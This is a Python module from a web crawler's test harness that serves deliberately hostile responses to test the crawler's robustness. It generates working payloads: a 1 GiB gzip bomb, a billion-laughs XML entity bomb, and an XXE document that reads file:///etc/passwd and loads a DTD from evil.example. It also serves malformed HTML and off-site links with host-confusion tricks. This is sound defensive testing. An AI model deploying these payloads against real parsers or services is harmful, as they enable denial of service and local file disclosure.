"""Opt-in hostile pages (``--faults hostile=1``): what a broken or malicious site could send.

Served only when the fault spec has ``hostile=1``; linked from page 1 of ``/en/news/`` (pages and odd
URLs) and from the sitemap index (hostile child sitemaps). Deterministic: the same bytes every time.
Pure functions returning ``(status, content type, body)``; :mod:`crawler.replica.app` serves them.
"""

from __future__ import annotations

import random
import struct
import zlib
from functools import cache

HTML = "text/html; charset=utf-8"
XML = "application/xml; charset=utf-8"

EMPTY = "/en/news/hostile-empty/"
BINARY = "/en/news/hostile-binary/"
NESTED = "/en/news/hostile-nested/"
ATTRIBUTES = "/en/news/hostile-attributes/"
MALFORMED = "/en/news/hostile-malformed/"
CHARSET = "/news/hostile-charset/"  # Russian: windows-1251 bytes declared as UTF-8 in the header
GZIP_BOMB = "/en/news/hostile-gzip-bomb/"  # 1 GiB of spaces, sent as about 1 MB, Content-Encoding: gzip
PAGES = (EMPTY, BINARY, NESTED, ATTRIBUTES, MALFORMED, CHARSET, GZIP_BOMB)

BOMB_FEED = "/en/rss/"  # replaced by a billion-laughs document
XXE_FEED = "/en/rss/analytics-and-comments/"  # replaced by a document with external entities
BOMB_SITEMAP = "/sitemap-en-hostile-bomb.xml"
XXE_SITEMAP = "/sitemap-en-hostile-xxe.xml"
GZIP_SITEMAP = "/sitemap-en-hostile-gzip.xml.gz"  # 200 MB of zeros, about 200 kB compressed
DOCUMENTS = (BOMB_FEED, XXE_FEED, BOMB_SITEMAP, XXE_SITEMAP, GZIP_SITEMAP)
PATHS = frozenset(PAGES + DOCUMENTS)

# Links with odd encodings and hosts, next to the pages above on /en/news/ page 1. Site links end
# in 404 (nothing is there); the others name hosts that are not the site and must never be fetched.
ODD_SITE_LINKS = (
    "/en/news/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82/",  # percent-encoded Cyrillic
    "/en/news/%25D0%25BF%25D1%2580%25D0%25B8/",  # double-encoded
    "/en/news/" + "x" * 4000 + "/",  # overlong path
    "/en/news/nul%00byte/",  # NUL byte
    "HTTPS://RussianCouncil.RU/en/news/hostile-empty/",  # mixed-case scheme and host: the site
)
OFF_SITE_LINKS = (
    "https://russiancouncil.ru.evil.example/en/news/suffix-host/",
    "https://russiancouncil.ru@evil.example/en/news/userinfo/",
    "//evil.example/en/news/protocol-relative/",
    "https://evil.example/en/news/plain/",
    "http://127.0.0.2/en/news/other-loopback/",
)

_BOMB_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(2, 10))
    + "]>"
)
_XXE_DTD = (
    '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    '<!ENTITY % remote SYSTEM "http://evil.example/xxe.dtd"> %remote;]>'
)


def listing_links() -> tuple[tuple[str, str], ...]:
    """``(href, title)`` pairs for page 1 of ``/en/news/``."""
    pages = tuple((path, f"Hostile {path.strip('/').rsplit('/', 1)[-1]}") for path in PAGES)
    odd = tuple((href, f"Odd link {n}") for n, href in enumerate(ODD_SITE_LINKS + OFF_SITE_LINKS))
    return pages + odd


def sitemap_rows(origin: str) -> str:
    """Extra ``<sitemap>`` entries for the sitemap index."""
    return "".join(
        f"<sitemap><loc>{origin}{path}</loc><lastmod>2025-03-03</lastmod></sitemap>\n"
        for path in (BOMB_SITEMAP, XXE_SITEMAP, GZIP_SITEMAP)
    )


Answer = tuple[int, str, bytes, tuple[tuple[str, str], ...]]  # status, content type, body, headers


def respond(path: str) -> Answer | None:
    """The hostile answer at ``path``, or None when ``path`` is not one."""
    if path not in PATHS:
        return None
    if path == GZIP_BOMB:
        return 200, HTML, gzip_bomb(1 << 30), (("Content-Encoding", "gzip"),)
    return (*_respond(path), ())


@cache
def gzip_bomb(size: int) -> bytes:
    """A valid gzip member of ``size`` spaces, from one deflate block repeated (0.2 s for 1 GiB)."""
    block = b" " * (1 << 20)
    count = size // len(block)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    middle = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)  # the same bytes every time
    tail = deflate.flush()
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + first + middle * (count - 1) + tail + struct.pack("<II", crc, size & 0xFFFFFFFF)


@cache
def _respond(path: str) -> tuple[int, str, bytes]:
    if path == EMPTY:
        return 200, HTML, b""
    if path == BINARY:
        return 200, HTML, random.Random(6).randbytes(512 * 1024)
    if path == NESTED:
        return 200, HTML, b"<html><body>" + b"<div>" * 100_000 + b"deep " * 40 + b"</div>" * 100_000
    if path == ATTRIBUTES:
        attributes = b" ".join(b"a%d=x" % n for n in range(100_000))
        return 200, HTML, b"<html><body><div " + attributes + b">text</div></body></html>"
    if path == MALFORMED:
        soup = b"<p>Unclosed <b>bold <i>italic</b> <table><td>cell</tr></p></html><!-- never closed "
        return 200, HTML, b"<html><body>" + soup * 2000
    if path == CHARSET:
        return 200, HTML, _russian_page().encode("cp1251")
    if path in (BOMB_FEED, XXE_FEED):
        dtd, ref = (_BOMB_DTD, "&lol9;") if path == BOMB_FEED else (_XXE_DTD, "&xxe;")
        feed = f'<?xml version="1.0"?>{dtd}<rss version="2.0"><channel><title>{ref}</title></channel></rss>'
        return 200, "application/rss+xml; charset=utf-8", feed.encode()
    if path in (BOMB_SITEMAP, XXE_SITEMAP):
        dtd, ref = (_BOMB_DTD, "&lol9;") if path == BOMB_SITEMAP else (_XXE_DTD, "&xxe;")
        sitemap = f'<?xml version="1.0"?>{dtd}<urlset><url><loc>{ref}</loc></url></urlset>'
        return 200, XML, sitemap.encode()
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip container
    zeros = bytes(1024 * 1024)
    body = b"".join(compressor.compress(zeros) for _ in range(200)) + compressor.flush()
    return 200, "application/gzip", body


def _russian_page() -> str:
    sentence = "Россия и Европа обсуждают новые правила торговли, и эксперты расходятся в оценках. "
    paragraphs = "".join(f"<p>{sentence * 3}</p>" for _ in range(6))
    return (
        '<html lang="ru"><head><meta charset="utf-8"><title>Неверная кодировка</title></head>'
        f"<body><h1>Неверная кодировка</h1>{paragraphs}</body></html>"
    )
